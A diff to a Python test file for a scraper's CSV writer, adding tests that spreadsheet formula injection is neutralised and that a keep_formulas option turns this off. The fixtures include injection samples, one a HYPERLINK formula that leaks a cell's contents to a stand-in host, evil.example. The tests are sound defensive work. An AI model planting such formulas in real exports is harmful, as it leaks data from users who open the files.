@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from datetime import UTC, date, datetime
@@ -21,6 +22,7 @@ from engine.events import (
     StepFinished,
     StepStarted,
 )
+from engine.rows import Cells
 from trawler.output import RowFileSink, rows_preview_table
 from trawler.progress import ProgressSink, format_duration, summary_table
 
@@ -77,17 +79,66 @@ async def feed(sink: Any, events: list[Event]) -> None:
         await sink.emit(event)
 
 
-async def test_csv_header_is_the_union_of_keys_and_nested_values_are_json(tmp_path: Path) -> None:
+async def test_csv_header_is_the_union_of_keys_lists_are_joined_objects_json(
+    tmp_path: Path,
+) -> None:
     path = tmp_path / "rows.csv"
     sink = RowFileSink(path)
     await feed(sink, run_events(ROWS))
     await sink.close()
     assert path.read_text(encoding="utf-8") == (
         "title,price,tags,stock,meta,seen\n"
-        'A Light in the Attic,51.77,"[""poetry"", ""kids""]",,,\n'
+        "A Light in the Attic,51.77,poetry; kids,,,\n"
         '"Say ""hi"", world",3.5,,,,\n'
         '"line\nbreak",,,,"{""isbn"": ""123"", ""ok"": true}",2025-03-01\n'
     )
+
+
+FORMULAS: list[dict[str, Any]] = [
+    {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "price": -5, "note": "-5"},
+    {"name": "+1 555 0100", "price": 2.5, "note": "@SUM(A1:A2)"},
+    {"name": "\tcmd", "price": None, "note": "\r=1+2", "tags": ["-x", "y"]},
+    {"name": "plain", "price": 0, "note": "a=b", "tags": [{"k": "=1"}], "deep": {"a": ["b"]}},
+]
+
+
+async def test_csv_neutralises_formulas_but_not_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "rows.csv"
+    async with RowFileSink(path) as sink:
+        await feed(sink, run_events(FORMULAS))
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows == [
+        {
+            "name": '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "price": "-5",  # a number, not text: left as it is
+            "note": "'-5",
+            "tags": "",
+            "deep": "",
+        },
+        {"name": "'+1 555 0100", "price": "2.5", "note": "'@SUM(A1:A2)", "tags": "", "deep": ""},
+        {"name": "'\tcmd", "price": "", "note": "'\r=1+2", "tags": "'-x; y", "deep": ""},
+        {
+            "name": "plain",
+            "price": "0",
+            "note": "a=b",
+            "tags": '[{"k": "=1"}]',
+            "deep": '{"a": ["b"]}',
+        },
+    ]
+
+
+async def test_csv_keeps_formulas_and_joins_with_another_separator_when_asked(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "rows.csv"
+    cells = Cells(keep_formulas=True, list_separator="\n")
+    async with RowFileSink(path, cells) as sink:
+        await feed(sink, run_events(FORMULAS))
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["name"] for row in rows] == [r["name"] for r in FORMULAS]
+    assert rows[2]["tags"] == "-x\ny"
 
 
 async def test_jsonl_is_written_as_rows_arrive(tmp_path: Path) -> None:
